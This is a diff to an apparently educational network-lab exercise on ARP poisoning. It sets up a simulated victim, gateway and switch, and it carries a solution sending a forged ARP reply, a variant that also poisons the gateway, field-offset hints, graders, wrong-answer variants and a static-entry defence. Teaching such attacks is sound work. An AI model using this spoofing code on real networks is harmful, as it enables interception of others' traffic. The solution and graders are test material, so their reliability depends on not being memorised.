@@ -1,4 +1,4 @@
-"""Exercise 6: ARP poisoning, and the victim's table (RFC 826; RFC 5227, section 1.3)."""
+"""Exercise 6: ARP poisoning, and the victim's table (RFC 826)."""
 
 from __future__ import annotations
 
@@ -6,17 +6,15 @@ import socket
 from collections.abc import Generator
 from typing import Any
 
-from rawkit.lab import Check, Defence, Evidence, Exercise, Finding, Link, Prediction, Seed, Stage, Topology, Values
-from rawkit.lab import Wrong, python
+from rawkit.lab import Check, Defence, Exercise, Link, Prediction, Seed, Stage, Topology, Values, Wrong, python
 
 __all__ = ["EXERCISE"]
 
 TASK = """
 You, a victim and a gateway share a switch. The victim knows the gateway already. Make the victim believe that the
-gateway, `{gateway}`, is at **your** MAC address, `{your_mac}`, so that what the victim sends to the gateway comes to
-you. The gateway's own table must stay as it is: tell your lie to the victim, `{victim}` at `{victim_mac}`, alone.
-
-Your command may end once the lie is told: when it has ended, the victim sends a datagram to the gateway.
+gateway, `{gateway}`, is at **your** MAC address, `{your_mac}`, so that what the victim sends to the gateway comes
+to you. Lie about the gateway alone: what the gateway knows of the victim, `{victim}` at `{victim_mac}`, must stay
+as it is. Your command may end once the lie is told: when it has ended, the victim sends a datagram to the gateway.
 """
 
 SOLUTION = """
@@ -30,37 +28,50 @@ with PacketSocket("eth0") as link:
     link.send(Ethernet(dst=victim, src=me) / lie)
 """
 
+BOTH_WAYS = """
+    gateway = os.environ["LAB_GATEWAY_MAC"]
+    lie = ARP.is_at(os.environ["LAB_VICTIM"], me, to=os.environ["LAB_GATEWAY"], to_mac=gateway)
+    link.send(Ethernet(dst=gateway, src=me) / lie)
+"""
+
 
 def values(seed: Seed) -> dict[str, Any]:
     """Three stations, and what the victim sends in the end."""
     network = seed.network()
     addresses = {name: seed.address(network) for name in ("you", "victim", "gateway")}
     macs = {f"{name}_mac": seed.mac() for name in ("your", "victim", "gateway")}
-    return {**addresses, **macs, "nonce": seed.nonce(), "port": seed.port()}
+    return {**addresses, **macs, "_nonce": seed.nonce(), "_port": seed.port()}
 
 
 def topology(v: Values) -> Topology:
     """Three hosts on a switch."""
     macs = {"you": v.your_mac, "victim": v.victim_mac, "gateway": v.gateway_mac}
-    return Topology([Link(name, "switch", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()], switches=["switch"])
+    return Topology(
+        [Link(name, "switch", (f"{v[name]}/24", ()), (mac, None)) for name, mac in macs.items()],
+        switches=["switch"],
+    )
+
+
+def say(stage: Stage, text: str) -> None:
+    """Have the victim send the gateway a datagram, to a port where nobody listens."""
+    with stage.host("victim").open(socket.socket, socket.AF_INET, socket.SOCK_DGRAM) as sender:
+        sender.sendto(text.encode(), (stage.values.gateway, stage.values._port))
 
 
 def scene(stage: Stage) -> Generator[None, None, None]:
     """The victim talks to the gateway before, and after, the student's command."""
     v = stage.values
-    stage.host("victim").set_sysctls({"ipv4/neigh/eth0/locktime": 0})  # else nothing new is believed for a second
-    stage.host("gateway").set_sysctls({"ipv4/neigh/eth0/locktime": 0})
-    stage.run("victim", ["ping", "-c", "1", "-W", "2", v.gateway])
+    for name in ("victim", "gateway"):
+        stage.host(name).set_sysctls({"ipv4/neigh/eth0/locktime": 0})  # else nothing new is believed for a second
+    say(stage, "hello")
+    stage.wait_until(lambda: stage.wire.received_by("victim").icmp(type=3, code=3).saw().passed)  # both know now
     if stage.defended:
         stage.host("victim").set_neighbor(v.gateway, v.gateway_mac)
     yield
-    with stage.host("victim").open(socket.socket, socket.AF_INET, socket.SOCK_DGRAM) as sender:
-        sender.sendto(v.nonce.encode(), (v.gateway, v.port))
-
-
-def told_the_victim_alone(e: Evidence) -> Finding:
-    """Whether the gateway never heard from the student that the victim had moved."""
-    return e.neighbour("gateway", e.values.victim).is_(e.values.victim_mac)
+    lies = {"sender_ip": v.gateway, "sender_mac": v.your_mac}
+    stage.wait_until(lambda: stage.wire.received_by("victim").arp(**lies).saw().passed, seconds=1)
+    say(stage, v._nonce)
+    stage.wait_until(lambda: stage.wire.sent_by("switch").payload(v._nonce).saw().passed, seconds=1)
 
 
 EXERCISE = Exercise(
@@ -74,16 +85,16 @@ EXERCISE = Exercise(
     scene=scene,
     task=TASK,
     prediction=Prediction(
-        "The victim never asked. Does Linux believe an ARP reply that it did not ask for, about an address that it "
-        "knows? (yes or no)",
+        "The victim never asked. Does Linux believe an ARP reply that it did not ask for, about an address that "
+        "it knows? (yes or no)",
         lambda _: "yes",
-        "An entry that exists is updated by whatever reply comes (RFC 826, packet reception); only new entries are "
-        "not made unasked (arp_accept in the kernel's ip-sysctl).",
+        "An entry that exists is updated by whatever reply comes (RFC 826, packet reception); only new entries "
+        "are not made unasked (arp_accept in the kernel's ip-sysctl).",
     ),
     hints=(
-        "ARP has no proof of who speaks. What a host is told last about an address that it knows is what it believes.",
+        "ARP has no proof of who speaks. A host believes what it was told last about an address that it knows.",
         "In a reply (operation 2), the pair of sender_ip and sender_mac is what the receiver stores.",
-        "The sender's MAC is in bytes 22 to 27 of the frame, the sender's IP in 28 to 31; the frame itself goes to the victim.",
+        "In the frame, sender_mac is in bytes 22 to 27, sender_ip in 28 to 31; bytes 0 to 5 are the victim's MAC.",
     ),
     checks=[
         Check(
@@ -101,9 +112,21 @@ EXERCISE = Exercise(
         Check(
             "caught",
             "what the victim sends to {gateway} comes to you",
-            lambda e: e.wire.received_by("you").ether(dst=e.values.your_mac).ip(dst=e.values.gateway).payload(e.values.nonce).saw(),
+            lambda e: (
+                e.wire.received_by("you")
+                .ether(dst=e.values.your_mac)
+                .ip(dst=e.values.gateway)
+                .payload(e.values._nonce)
+                .saw()
+            ),
+            "RFC 894, Address Mappings",
         ),
-        Check("quiet", "the gateway still knows where the victim is", told_the_victim_alone),
+        Check(
+            "quiet",
+            "the gateway still knows where the victim is",
+            lambda e: e.neighbour("gateway", e.values.victim).is_(e.values.victim_mac),
+            "RFC 826, packet reception",
+        ),
     ],
     defence=Defence("a permanent entry for the gateway in the victim's table", "believed"),
     solution=python(SOLUTION),
@@ -114,16 +137,10 @@ EXERCISE = Exercise(
             "sender_ip is",
         ),
         Wrong(
-            python(SOLUTION.replace('["LAB_GATEWAY"], me,', '["LAB_GATEWAY"], os.environ["LAB_GATEWAY_MAC"],')),
-            "lie",
-            "sender_mac is",
+            python(SOLUTION.replace("dst=victim", 'dst=os.environ["LAB_GATEWAY_MAC"]')),
+            "believed",
+            "victim believes that",
         ),
-        Wrong(
-            python(SOLUTION.replace("    link.send(", """    link.send(Ethernet(dst=os.environ["LAB_GATEWAY_MAC"], src=me)
-        / ARP.is_at(os.environ["LAB_VICTIM"], me, to=os.environ["LAB_GATEWAY"], to_mac=os.environ["LAB_GATEWAY_MAC"]))
-    link.send(""")),
-            "quiet",
-            "gateway believes that",
-        ),
+        Wrong(python(SOLUTION + BOTH_WAYS), "quiet", "gateway believes that"),
     ],
 )
